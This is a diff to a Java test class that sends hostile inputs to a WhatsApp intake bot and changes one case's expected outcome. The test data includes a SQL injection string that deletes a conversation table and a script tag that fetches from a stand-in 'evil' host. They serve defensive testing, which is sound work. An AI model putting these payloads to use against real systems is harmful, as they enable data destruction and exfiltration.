@@ -199,8 +199,10 @@ class WhatsAppHostileInputTest {
                 .replace("\"delivered\"", "\"failed\",\"errors\":[{\"code\":131047,\"title\":" + quote(complaint(m))
                         + "}]"), m, 200));
         m = next();
+        // Over 40 characters after "status": no status query but a complaint's words, kept while the bot asks
+        // for the region.
         cases.add(HostileCase.of("a status query with SQL", notification(text(m,
-                "status '; DELETE FROM intake.chat_conversation; --")), m, 200).read());
+                "status '; DELETE FROM intake.chat_conversation; --")), m, 200).waits());
         m = next();
         cases.add(HostileCase.of("script tags only",
                 notification(text(m, "<script>fetch('//evil/" + m + "')</script>")), m, 200).read());
